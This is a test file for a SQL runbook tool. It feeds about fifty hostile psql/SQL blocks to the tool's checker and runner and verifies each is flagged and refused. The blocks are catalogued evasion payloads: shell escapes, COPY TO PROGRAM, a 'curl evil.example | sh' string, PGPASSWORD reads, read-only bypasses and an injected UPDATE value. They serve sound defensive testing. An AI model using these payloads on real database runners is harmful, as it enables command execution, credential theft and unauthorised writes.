/**
 * Hostile SQL run blocks against a real PostgreSQL: every way found to leave SQL (a
 * shell, files, the environment), to write from a read-only block, to hide a bare
 * `:NAME` from the check, or to outlive `timeout=` is a `runbook check` finding, the
 * runner refuses it, and the database and the machine are unchanged.
 */
import { readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPostgres, type Cluster } from '../fixtures/postgres.ts';
import { cli, fixtureProject, runbookMd } from '../fixtures/run/project.ts';

const MARK = `/tmp/runbook-hostile-sql-${process.pid}`;
const U = (k: string) => `UPDATE flags SET enabled = false WHERE key = '${k}';`;

/** [id, safety, SQL, the rule the check reports]. Each one, run without the check, would run a shell, write, or paste a value as SQL. */
const attacks: [string, string, string, string][] = [
  ['meta-in-comment', 'read-only', `\\echo /*\n\\! touch ${MARK}-1\n\\echo */\nSELECT 1;`, 'sql-escape'],
  ['quoted-pipe', 'read-only', `\\o '|touch ${MARK}-2'\nSELECT 1;\n\\o`, 'sql-escape'],
  ['variable-pipe', 'read-only', `\\set p '|touch ${MARK}-3'\n\\o :p\nSELECT 1;`, 'sql-escape'],
  ['backquote-after-dashes', 'read-only', `\\set x -- \`touch ${MARK}-4\`\nSELECT 1;`, 'sql-escape'],
  ['identifier-dollars', 'read-only', `SELECT 1 AS x$$q$;\n\\! touch ${MARK}-5\n-- $q$`, 'sql-escape'],
  ['g-to-pipe', 'read-only', `SELECT 1 \\g '|touch ${MARK}-6'`, 'sql-escape'],
  ['o-to-file', 'read-only', `\\o ${MARK}-7\nSELECT 'curl evil.example | sh';\n\\o`, 'sql-escape'],
  ['copy-to-file', 'read-only', `\\copy (SELECT 'echo pwned') TO '${MARK}-8'`, 'sql-escape'],
  ['w-to-file', 'read-only', `SELECT 'x' \\w ${MARK}-9`, 'sql-escape'],
  ['dollar-in-meta', 'read-only', `\\echo $$\n\\! touch ${MARK}-10\n\\echo $$`, 'sql-escape'],
  ['getenv', 'read-only', `\\getenv pw PGPASSWORD\nSELECT reverse(:'pw');`, 'sql-escape'],
  ['gexec', 'read-only', `SELECT 'SET default_transaction_read_only = off' \\gexec\n${U('checkout')}`, 'sql-escape'],
  [
    'set-config',
    'read-only',
    `SELECT set_config('default_transaction_read_only', 'off', false);\n${U('checkout')}`,
    'sql-escape',
  ],
  ['quoted-setting', 'read-only', `SET "default_transaction_read_only" = off;\n${U('checkout')}`, 'sql-read-only'],
  [
    'unicode-setting',
    'read-only',
    `SET U&"default_transaction_read_onl\\0079" = off;\n${U('checkout')}`,
    'sql-read-only',
  ],
  [
    'do-execute',
    'read-only',
    `DO $$ BEGIN EXECUTE 'SET default_transaction_read_only = off'; END $$;\n${U('checkout')}`,
    'sql-read-only',
  ],
  [
    'psql-variable-setting',
    'read-only',
    `\\set k default_transaction_read_only\nSET :k = off;\n${U('checkout')}`,
    'sql-escape',
  ],
  ['copy-program', 'read-only', `COPY (SELECT 1) TO PROGRAM 'touch ${MARK}-11';`, 'sql-read-only'],
  ['alter-system', 'read-only', `ALTER SYSTEM SET work_mem = '77MB';\nSELECT pg_reload_conf();`, 'sql-read-only'],
  [
    'terminate',
    'read-only',
    `SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE pid <> pg_backend_pid();`,
    'sql-read-only',
  ],
  ['timeout-off', 'mutating', `SET statement_timeout = 0;\nSELECT pg_sleep(20);`, 'sql-escape'],
  [
    'bare-in-meta-comment',
    'mutating',
    `SELECT :'NAME';\n\\echo /*\nSELECT id FROM notes WHERE id = :NAME;\n\\echo */`,
    'sql-var-form',
  ],
  ['bare-after-identifier-dollars', 'mutating', `SELECT :'NAME' AS x$$q$;\nSELECT :NAME; -- $q$`, 'sql-var-form'],
  ['bare-through-set', 'mutating', `\\set n :NAME\nSELECT id FROM notes WHERE id = :n;`, 'sql-var-form'],
  // A second attack pass.
  ['g-options-then-pipe', 'read-only', `SELECT 1 \\g (format=csv) |touch ${MARK}-12`, 'sql-escape'],
  ['carriage-return-ends-comment', 'read-only', `-- hi\r\\! touch ${MARK}-13\nSELECT 1;`, 'sql-escape'],
  ['bare-after-cast', 'mutating', `SELECT :'NAME';\nSELECT 'x':::NAME;`, 'sql-var-form'],
  ['bare-after-colons-in-meta', 'mutating', `\\set q ::NAME\nSELECT 1;`, 'sql-var-form'],
  ['whole-line-meta', 'read-only', `\\if false\n\\sf x \\\\ '\n\\endif\n\\! touch ${MARK}-14\n'`, 'sql-escape'],
  [
    'strings-read-otherwise',
    'mutating',
    `SET standard_conforming_strings = off;\nSELECT 'x\\', ' AS a \\! touch ${MARK}-15\nSELECT 1 AS b ';`,
    'sql-escape',
  ],
  [
    'g-as-separator',
    'read-only',
    `SELECT 1 \\g\nSET default_transaction_read_only = off;\n${U('checkout')}`,
    'sql-read-only',
  ],
  [
    'quoted-function-name',
    'read-only',
    `SELECT "set_config"('default_transaction_read_only', 'off', false);\n${U('checkout')}`,
    'sql-escape',
  ],
  [
    'query-as-text',
    'read-only',
    `SELECT query_to_xml('SELECT set_config(''default_transaction_read_only'',''off'',false)', false, false, '');\n${U('checkout')}`,
    'sql-read-only',
  ],
  [
    'copy-stdout-decoy',
    'read-only',
    `COPY (SELECT 1 FROM (SELECT 'a' AS stdout) s WHERE 'a' SIMILAR TO stdout) TO PROGRAM 'touch ${MARK}-16';`,
    'sql-read-only',
  ],
  ['large-object', 'read-only', `SELECT lo_from_bytea(4242, 'x');`, 'sql-read-only'],
  ['verbosity-back-on', 'read-only', `\\set VERBOSITY default\nSELECT 1;`, 'sql-escape'],
  ['wrapped-output', 'read-only', `\\pset format wrapped\nSELECT 1;`, 'sql-escape'],
  ['errors-do-not-stop', 'mutating', `\\set ON_ERROR_STOP off\nSELECT 1/0;\nSELECT 'after';`, 'sql-escape'],
  // A third attack pass.
  ['command-in-a-variable', 'read-only', `\\set b '\\\\! touch ${MARK}-17'\nSELECT 1 :b\n;`, 'sql-escape'],
  [
    'quote-in-a-variable',
    'read-only',
    `\\set q ''''\nSELECT :q ;\nSELECT 1 AS ' ;\n\\! touch ${MARK}-18\nSELECT ' ;`,
    'sql-escape',
  ],
  ['number-glued-to-e-string', 'read-only', `SELECT 1e'\\'\n\\! touch ${MARK}-19\n'`, 'sql-escape'],
  ['parameter-glued-to-e-string', 'read-only', `SELECT $1e'\\'\n\\! touch ${MARK}-20\n'`, 'sql-escape'],
  ['client-encoding', 'mutating', `SET client_encoding = 'SJIS';\nSELECT 1;`, 'sql-escape'],
  [
    'built-setting-name',
    'mutating',
    `SELECT set_config('standard_' || 'conforming_strings', 'off', false);`,
    'sql-escape',
  ],
  ['value-through-set', 'mutating', `\\set n '''' :'NAME'\nSELECT :n;`, 'sql-escape'],
  [
    'keyword-in-a-variable',
    'read-only',
    `\\set s SET\n:s default_transaction_read_only = off;\n${U('checkout')}`,
    'sql-escape',
  ],
  ['latex-through-g-options', 'read-only', `SELECT 1 AS k \\g (fo'r'mat=latex)`, 'sql-escape'],
  ['try-advisory-lock', 'read-only', `SELECT pg_try_advisory_lock(42);`, 'sql-read-only'],
  [
    'timeout-through-pg-settings',
    'mutating',
    `UPDATE pg_settings SET setting = '0' WHERE name = 'statement_timeout';`,
    'sql-escape',
  ],
];

let pg: Cluster;
let root: string;

beforeAll(() => {
  pg = startPostgres();
  pg.sql(`CREATE TABLE flags (key text PRIMARY KEY, enabled boolean NOT NULL); INSERT INTO flags VALUES ('checkout', true);
    CREATE TABLE notes (id int, body text); INSERT INTO notes VALUES (1, 'one');`);
  const body = attacks
    .map(([id, safety, sql]) => `\`\`\`sql run id=${id} safety=${safety} timeout=5\n${sql}\n\`\`\`\n`)
    .join('\n');
  root = fixtureProject({
    'src/content/runbooks/atk.md': runbookMd({
      shortlinks: '[atk]',
      vars: [
        'DATABASE_URL: { secret: true }',
        'NAME: { description: "Any text", example: "x" }',
        'PATH: { description: "A path, not the PATH", example: "/x" }',
      ],
      body: `${body}\n\`\`\`sql run id=path safety=read-only\nSELECT :'PATH' AS path;\n\`\`\`\n\n\`\`\`sql run id=slow-steps safety=mutating timeout=3\nSELECT pg_sleep(2.9), 'step-marker-1';\nSELECT pg_sleep(2.9), 'step-marker-2';\nSELECT pg_sleep(2.9), 'step-marker-3';\n\`\`\`\n`,
    }),
  });
});

afterAll(() => {
  pg?.stop();
  for (const f of readdirSync('/tmp').filter((n) => n.startsWith(`runbook-hostile-sql-${process.pid}`)))
    rmSync(join('/tmp', f), { force: true });
});

describe('hostile SQL blocks', () => {
  it('are each reported by runbook check, at the block', async () => {
    const r = await cli(['check', '--format', 'json'], root);
    const found = (
      JSON.parse(r.out) as { diagnostics: { ruleId: string; line: number; message: string }[] }
    ).diagnostics.filter((d) => d.ruleId !== 'var-unused');
    const blocks = readBlocks();
    for (const [id, , , rule] of attacks) {
      const block = blocks.find((b) => b.id === id)!;
      const inside = found.filter((d) => d.line > block.fence && d.line <= block.fence + block.lines + 1);
      expect(
        inside.map((d) => d.ruleId),
        id,
      ).toContain(rule);
    }
  });

  it('are each refused by the runner, and neither the machine nor the database changes', async () => {
    for (const [id] of attacks) {
      const r = await cli(
        [
          'run',
          `atk#${id}`,
          '--yes',
          '--var',
          'NAME=0; UPDATE flags SET enabled = false',
          '--transcript',
          join(root, 't.jsonl'),
        ],
        root,
        { env: { DATABASE_URL: pg.url } },
      );
      expect(r.code, `${id}: ${r.err}`).toBe(2);
      expect(r.err, id).toMatch(/runbook check` reports it|so it must be digits only/);
    }
    expect(readdirSync('/tmp').filter((n) => n.startsWith(`runbook-hostile-sql-${process.pid}`))).toEqual([]);
    expect(pg.sql("SELECT enabled FROM flags WHERE key = 'checkout'")).toBe('t');
    expect(pg.sql("SELECT setting FROM pg_settings WHERE name = 'work_mem'")).toBe('4096');
    expect(pg.sql('SELECT count(*) FROM pg_largeobject_metadata')).toBe('0');
  }, 60_000);

  it('passes values under names of their own: a variable called PATH does not move psql', async () => {
    const r = await cli(['run', 'atk#path', '--var', 'PATH=/nowhere'], root, { env: { DATABASE_URL: pg.url } });
    expect(r.code, r.live + r.err).toBe(0);
    expect(r.live).toContain('/nowhere');
  });

  it('ends the server session when a block runs past timeout=, so no query outlives it', async () => {
    const r = await cli(['run', 'atk#slow-steps', '--yes', '--transcript', join(root, 't.jsonl')], root, {
      env: { DATABASE_URL: pg.url },
    });
    expect(r.code).toBe(124);
    // Each statement stays under statement_timeout; the second is still sleeping when psql is killed.
    expect(
      pg.sql("SELECT count(*) FROM pg_stat_activity WHERE query LIKE '%step-marker%' AND pid <> pg_backend_pid()"),
    ).toBe('0');
  });

  it('refuses a URL whose service= would override its own parts', async () => {
    const r = await cli(['run', 'atk#path', '--var', 'PATH=/x'], root, {
      env: { DATABASE_URL: `${pg.url}?service=other` },
    });
    expect(r.code).toBe(2);
    expect(r.err).toContain('has the parameter service=, which runbook cannot hand to psql');
  });
});

/** Where each attack block sits in the page: its fence line and how many lines it has. */
function readBlocks(): { id: string; fence: number; lines: number }[] {
  const page = runbookMd({
    shortlinks: '[atk]',
    vars: [
      'DATABASE_URL: { secret: true }',
      'NAME: { description: "Any text", example: "x" }',
      'PATH: { description: "A path, not the PATH", example: "/x" }',
    ],
    body: `${attacks.map(([id, safety, sql]) => `\`\`\`sql run id=${id} safety=${safety} timeout=5\n${sql}\n\`\`\`\n`).join('\n')}`,
  });
  const lines = page.split('\n');
  return attacks.map(([id, , sql]) => ({
    id,
    fence: lines.findIndex((l) => l.startsWith(`\`\`\`sql run id=${id} `)) + 1,
    lines: sql.split('\n').length,
  }));
}
